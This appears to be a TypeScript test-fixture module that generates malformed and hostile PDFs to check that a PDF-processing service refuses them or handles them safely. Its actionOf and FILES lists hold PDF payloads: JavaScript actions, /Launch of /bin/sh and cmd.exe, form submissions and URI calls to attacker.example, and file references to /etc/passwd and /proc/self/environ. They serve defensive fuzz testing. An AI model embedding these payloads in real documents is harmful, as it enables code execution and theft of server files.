import type { Hostile, Random } from './hostile-pdfs.ts'
import { lockedPdf } from './locked-pdf.ts'
import { FIRST_OWN_OBJECT, POSTER, pdfOf } from './pdfs.ts'
import { randomBytesOf } from './random-bytes.ts'

/* Whole PDFs that ask for more than to be looked at, or whose parts are not what they should be. */

const latin = (text: string) => Buffer.from(text, 'latin1')
const REFUSED = ['refused'] as const
const SAME = ['same'] as const
const REFUSED_OR_SAME = ['refused', 'same'] as const
const OWN = `${FIRST_OWN_OBJECT} 0 R`
const own = (nth: number) => `${FIRST_OWN_OBJECT + nth} 0 R`
const BIG = 1_000_000

const pickOf = (random: Random, texts: readonly string[]) => texts[random(texts.length)] ?? ''

function replaced(pdf: Buffer, from: string, to: string): Buffer {
  const text = pdf.toString('latin1')
  if (!text.includes(from)) throw new Error(`There is no ${from} to replace.`)
  return latin(text.replace(from, to.padEnd(from.length)))
}

const formOf = (content: string, resources = '') => ({
  dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 1280 720] /Resources << ${resources} >>`,
  stream: latin(content),
})

function actionOf(random: Random): string {
  return pickOf(random, [
    `/S /JavaScript /JS (this.pageNum = ${random(BIG)}; app.alert\\(1\\))`,
    `/S /JavaScript /JS (for \\(let i = ${random(BIG)}; ; i++\\) {})`,
    `/S /JavaScript /JS (app.setTimeOut\\('app.exit\\(\\)', ${random(BIG)}\\))`,
    `/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c ${random(BIG)}) >>`,
    `/S /URI /URI (http://attacker.example/${random(BIG)})`,
    `/S /SubmitForm /F (http://attacker.example/${random(BIG)}) /Flags ${random(64)}`,
    `/S /GoToR /F (//attacker.example/${random(BIG)}) /D [0 /Fit]`,
    `/S /ImportData /F (/etc/${random(BIG)})`,
    `/S /Named /N /Print${random(BIG)}`,
  ])
}

function withAction(random: Random): Buffer {
  const action = `<< ${actionOf(random)} >>`
  const key = pickOf(random, ['WC', 'WS', 'DS', 'WP', 'DP'])
  const places = [
    () => pdfOf({ catalog: `/OpenAction ${action}` }),
    () => pdfOf({ catalog: `/AA << /${key} ${action} >>` }),
    () => pdfOf({ catalog: `/Names << /JavaScript << /Names [(a) ${action}] >> >>` }),
    () => pdfOf({ page: `/AA << /O ${action} >>` }),
    () =>
      pdfOf({ catalog: `/OpenAction ${OWN}`, more: [`<< ${actionOf(random)} /Next [${action} ${OWN}] >>`] }),
  ]
  return (places[random(places.length)] ?? withAction)(random)
}

const FILES = ['/etc/passwd', '/proc/self/environ', 'C:\\\\boot.ini', 'file:///etc/hosts', '//host/share/a']

function withFileOfServer(random: Random): Buffer {
  const file = `(${pickOf(random, FILES)}${random(4) ? '' : '\\0'}) /Desc (${random(BIG)})`
  const spec = random(2) ? `<< /Type /Filespec /F ${file} >>` : `<< /FS /URL /F ${file} >>`
  const box = `/BBox [0 0 ${1 + random(99)} ${1 + random(99)}]`
  const content = `${POSTER} /X1 Do`
  const resources = `/XObject << /X1 ${OWN} >>`
  const places = [
    () =>
      pdfOf({
        content,
        resources,
        more: [{ dictionary: `/Subtype /Form ${box} /F ${spec}`, stream: latin('') }],
      }),
    () =>
      pdfOf({
        ...{ content, resources },
        more: [{ dictionary: `/Subtype /Form ${box} /Ref << /F ${spec} /Page 0 >>`, stream: latin('') }],
      }),
    () => pdfOf({ catalog: `/AF [${spec}] /Names << /EmbeddedFiles << /Names [(a) ${spec}] >> >>` }),
    () => pdfOf({ catalog: `/Collection << /D (a) >> /OpenAction << /S /GoToE /F ${spec} >>` }),
  ]
  return (places[random(places.length)] ?? withFileOfServer)(random)
}

/** Forms that draw one another, the last of them the first. */
function circleOfForms(random: Random): Buffer {
  const count = 1 + random(60)
  const more = Array.from({ length: count }, (_, nth) =>
    formOf(`${random(9)} w /X1 Do`, `/XObject << /X1 ${own((nth + 1) % count)} >>`),
  )
  return pdfOf({ content: `${POSTER} /X1 Do`, resources: `/XObject << /X1 ${OWN} >>`, more })
}

/** A tree of pages whose branch leads back to its root, or to itself. */
function circleOfPages(random: Random): Buffer {
  const count = 1 + random(60)
  const back = random(2) ? '2 0 R' : own(random(count))
  const more = Array.from({ length: count }, (_, nth) => {
    const child = nth === count - 1 ? back : own(nth + 1)
    return `<< /Type /Pages /Count ${1 + random(9)} /Kids [${child}] /Parent 2 0 R >>`
  })
  return replaced(pdfOf({ more }), '/Kids [10000 0 R]', `/Kids [${OWN}]`)
}

const MARKS = [
  '<script>',
  '<!doctype html>',
  '<html><body>',
  '<svg xmlns="http://www.w3.org/2000/svg">',
  '<?php ',
]

function withPageOfWebsite(random: Random): Buffer {
  const mark = `${pickOf(random, MARKS)}fetch\\(${random(BIG)}\\)`
  return random(2) ? pdfOf({ catalog: `/X (${mark})` }) : pdfOf({ trailer: `/X (${mark})` })
}

function blankPage(random: Random): Buffer {
  const grey = random(1000) / 1000
  const where = `${random(1280)} ${random(720)} ${1 + random(900)} ${1 + random(600)} re`
  const text = `BT /F1 ${20 + random(90)} Tf ${random(900)} ${random(600)} Td (Fresh bread) Tj ET`
  const contents = [
    ' '.repeat(random(2_000)),
    `${grey} g 0 0 1280 720 re f`,
    `${grey} ${random(2)} ${grey} rg 0 0 1280 720 re f`,
    `1 g ${where} f`,
    `3 Tr ${text}`,
    `0 0 0 0 re W n 0 g ${where} f`,
    `1 0 0 1 ${2_000 + random(9_000)} 0 cm ${text}`,
    `0 0 0 0 0 0 cm 0 g ${where} f ${text}`,
    `/OC /Off BDC 0 g ${where} f EMC`,
    `/Clear gs 0 g ${where} f`,
  ]
  const hidden = `<< /Type /OCG /Name (Off) >>`
  return pdfOf({
    content: pickOf(random, contents),
    resources: `/Properties << /Off ${OWN} >> /ExtGState << /Clear << /ca 0 /CA 0 >> >>`,
    catalog: `/OCProperties << /OCGs [${OWN}] /D << /OFF [${OWN}] >> >>`,
    more: [hidden],
  })
}

const NO_CONTENTS = ['null', '9 0 R', '[9 0 R 8 0 R]', '1 0 R', '(text)', '[]', '3', '[[3 0]]', '[4 0 R]']

export const HOSTILE_DOCUMENTS: readonly Hostile[] = [
  {
    name: 'that says it has more pages than it holds',
    make: random => pdfOf({ count: (2 + random(30)) * 10 ** random(6) + random(9) }),
    outcomes: REFUSED_OR_SAME,
  },
  { name: 'that runs a script or a program', make: withAction, outcomes: SAME },
  { name: 'that reads a file of the server', make: withFileOfServer, outcomes: SAME },
  { name: 'that draws itself', make: circleOfForms, outcomes: REFUSED_OR_SAME },
  { name: 'whose pages are their own parents', make: circleOfPages, outcomes: REFUSED },
  { name: 'that is locked without a password', make: lockedPdf, outcomes: REFUSED },
  { name: 'that is a page of a website as well', make: withPageOfWebsite, outcomes: REFUSED },
  { name: 'that is blank', make: blankPage, outcomes: REFUSED },
  {
    name: 'of its first bytes alone',
    make: random =>
      latin(`%PDF-${random(3)}.${random(10)}\n%${random(BIG)}\n${' '.repeat(random(900))}%%EOF`),
    outcomes: REFUSED,
  },
  {
    name: 'whose drawing is missing',
    make: random => {
      const pdf = pdfOf({ width: 1280 + 16 * random(99), height: 720 + 9 * random(99) })
      return replaced(pdf, '/Contents 3 0 R', `/Contents ${pickOf(random, NO_CONTENTS)}`)
    },
    outcomes: REFUSED,
  },
  {
    name: 'one of whose objects lies elsewhere than its table says',
    make: random => {
      const pdf = pdfOf({
        content: `${POSTER} /X1 Do`,
        resources: `/XObject << /X1 ${OWN} >>`,
        more: [formOf('1 0 0 rg 600 50 500 150 re f')],
      }).toString('latin1')
      const at = pdf.indexOf('\n100 1\n') + 7
      const other = Number(pdf.slice(at, at + 10)) + (1 + random(120)) * (random(2) ? 1 : -1)
      return latin(`${pdf.slice(0, at)}${String(other).padStart(10, '0')}${pdf.slice(at + 10)}`)
    },
    outcomes: REFUSED,
  },
  {
    name: 'whose words lie many forms deep',
    make: random => {
      const count = 2 + random(200)
      const more = Array.from({ length: count }, (_, nth) =>
        nth === count - 1
          ? formOf(POSTER, '/Font << /F1 4 0 R >>')
          : formOf(`${random(9)} w /X1 Do`, `/XObject << /X1 ${own(nth + 1)} >>`),
      )
      const content =
        '0.05 0.25 0.18 rg 0 0 1280 720 re f 1 g 90 600 400 20 re f 0.05 0.25 0.18 rg 90 600 400 20 re f /X1 Do'
      return pdfOf({ content, resources: `/XObject << /X1 ${OWN} >>`, more })
    },
    outcomes: REFUSED_OR_SAME,
  },
  {
    name: 'in a typeface that is damaged or not there',
    make: random => {
      const name = `/BaseFont /Missing${random(BIG)}`
      const kind = pickOf(random, ['TrueType', 'Type1', 'MMType1'])
      const file = pickOf(random, ['FontFile', 'FontFile2', 'FontFile3'])
      const descriptor = `<< /Type /FontDescriptor /FontName /Missing /Flags 32 /${file} ${own(2)} >>`
      return pdfOf({
        content: `0.05 0.25 0.18 rg 0 0 1280 720 re f 1 g BT /F2 96 Tf 90 400 Td (Corner Bakery) Tj ET`,
        page: `/Resources << /Font << /F2 ${OWN} >> >>`,
        more: [
          `<< /Type /Font /Subtype /${kind} ${name} ${random(3) ? `/FontDescriptor ${own(1)}` : ''} >>`,
          descriptor,
          {
            dictionary: `/Subtype /${pickOf(random, ['Type1C', 'OpenType', 'None'])}`,
            stream: randomBytesOf(random, 50 + random(3_000)),
          },
        ],
      })
    },
    outcomes: ['refused', 'warned'],
  },
]
